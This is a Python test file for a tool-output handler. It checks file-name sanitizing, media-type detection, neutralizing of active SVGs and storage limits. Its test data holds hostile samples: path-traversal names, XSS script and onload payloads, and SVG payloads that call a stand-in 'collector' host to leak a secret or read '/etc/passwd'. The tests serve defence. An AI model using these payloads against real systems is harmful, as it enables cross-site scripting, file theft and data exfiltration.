"""How files returned by hostile tools are handled."""

import hashlib
from pathlib import Path

from activities.documents.artifacts import ArtifactStore
from activities.tools.outputs import MOST_BYTES, MOST_FILES, ToolOutput, media_type, safe_name, store_outputs
from chargehand.contracts import Artifact

PNG = b"\x89PNG\r\n\x1a\nrest"


def test_unsafe_file_names_are_sanitized() -> None:
    """Folders, control characters and leading dots are removed, whatever the tool called the file."""
    names = {
        "plot.png": "plot.png",
        "../../etc/passwd": "passwd",
        "..\\..\\boot.ini": "boot.ini",
        "/etc/cron.d/job": "job",
        "..": "file",
        "": "file",
        ".bashrc": "bashrc",
        "a\0b\n\x1b[31mc.png": "a_b_31mc.png",
        "\u202egnp.exe": "_gnp.exe",
        "Umsätze (März) 2026.csv": "Umsätze (März) 2026.csv",
        "%2e%2e%2fx.png": "_2e_2e_2fx.png",
        "x" * 500 + ".png": "x" * 96 + ".png",
        "a.png/": "a.png",
        '"><script>.svg': "_script_.svg",
    }

    assert {name: safe_name(name) for name in names} == names


def test_a_media_type_requires_matching_name_and_content() -> None:
    """HTML is served as plain text, and a file with another format's content as octet-stream."""
    types = {
        ("a.png", PNG): "image/png",
        ("a.PNG", PNG): "image/png",
        ("a.jpg", b"\xff\xd8\xff\xe0"): "image/jpeg",
        ("a.pdf", b"%PDF-1.7"): "application/pdf",
        ("a.csv", b"a,b\n1,2\n"): "text/csv",
        ("a.json", b"{}"): "application/json",
        ("a.txt", b"words"): "text/plain",
        ("a.py", b"print()"): "text/plain",
        ("a.html", b"<script>fetch('//evil')</script>"): "text/plain",
        ("a.png", b"<svg onload=alert(1)>"): "application/octet-stream",
        ("a.png", b"%PDF-1.7"): "application/octet-stream",
        ("a.pkl", b"\x80\x04\x95"): "application/octet-stream",
        ("a.txt", b"a\0b"): "application/octet-stream",
        ("a.csv", b"\xff\xfe"): "application/octet-stream",
        ("noname", PNG): "application/octet-stream",
    }

    assert {file: media_type(*file) for file in types} == types


def test_active_svg_is_served_as_plain_text() -> None:
    """Opening a stored drawing runs no script and requests no URL."""
    drawings = [
        "<svg><script>alert(1)</script></svg>", "<svg><SCRIPT href='x'/></svg>", "<svg onload='alert(1)'></svg>",
        "<svg><a href='javascript:alert(1)'>x</a></svg>", "<svg><image href='http://collector/?q=secret'/></svg>",
        "<svg><image xlink:href = 'file:///etc/passwd'/></svg>", "<svg><use href=//collector/x.svg#y></svg>",
        "<svg><style>@import 'http://collector'</style></svg>", "<svg><rect fill='url(http://collector/x)'/></svg>",
        "<svg><foreignObject><iframe/></foreignObject></svg>", "<svg><animate attributeName='href' to='x'/></svg>",
        '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>', "no drawing at all",
    ]  # fmt: skip

    assert [drawing for drawing in drawings if media_type("a.svg", drawing.encode()) != "text/plain"] == []


def test_passive_svg_keeps_its_media_type() -> None:
    """Internal references and the usual DOCTYPE are no reason to refuse a drawing."""
    drawing = (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><g clip-path="url(#c)"><use xlink:href="#a"/>'
        '<image href="data:image/png;base64,aGk="/></g></svg>'
    )

    assert media_type("a.svg", drawing.encode()) == "image/svg+xml"


async def test_files_of_the_same_name_are_numbered(tmp_path: Path) -> None:
    """Names that differ only in case count as equal, and the URI can be parsed back."""
    store = ArtifactStore(tmp_path)
    files = [ToolOutput(name=name, content=PNG, title="Sales") for name in ("x y.png", "dir/x y.png", "X Y.PNG")]

    artifacts, left_out = await store_outputs(store, files)

    digest = hashlib.sha256(PNG).hexdigest()
    names = ["x y.png", "x y (2).png", "X Y (3).PNG"]
    uris = [f"artifact:{digest}/{name}" for name in ("x%20y.png", "x%20y%20%282%29.png", "X%20Y%20%283%29.PNG")]
    assert artifacts == tuple(
        Artifact(uri=uri, name=name, media_type="image/png", bytes=len(PNG), title="Sales")
        for uri, name in zip(uris, names, strict=True)
    )
    assert left_out == ()
    assert store.read(digest) == PNG


async def test_files_over_the_limits_are_left_out_and_reported(tmp_path: Path) -> None:
    """Count, size and total size are limited, and the caller is told which files were dropped."""
    large = b"x" * MOST_BYTES
    many = [ToolOutput(name=f"{number}.txt", content=b"1") for number in range(MOST_FILES + 1)]
    sizes = [ToolOutput(name="huge.txt", content=large + b"x")]
    sizes += [ToolOutput(name=f"{number}.txt", content=large) for number in range(3)]

    kept_many, lost_many = await store_outputs(ArtifactStore(tmp_path), many)
    kept_sizes, lost_sizes = await store_outputs(ArtifactStore(tmp_path), sizes)

    assert (len(kept_many), lost_many) == (MOST_FILES, ("10.txt: only 10 files per call are stored",))
    assert [artifact.name for artifact in kept_sizes] == ["0.txt", "1.txt"]
    assert lost_sizes == ("huge.txt: larger than 10 MB", "2.txt: all files together may have 20 MB")
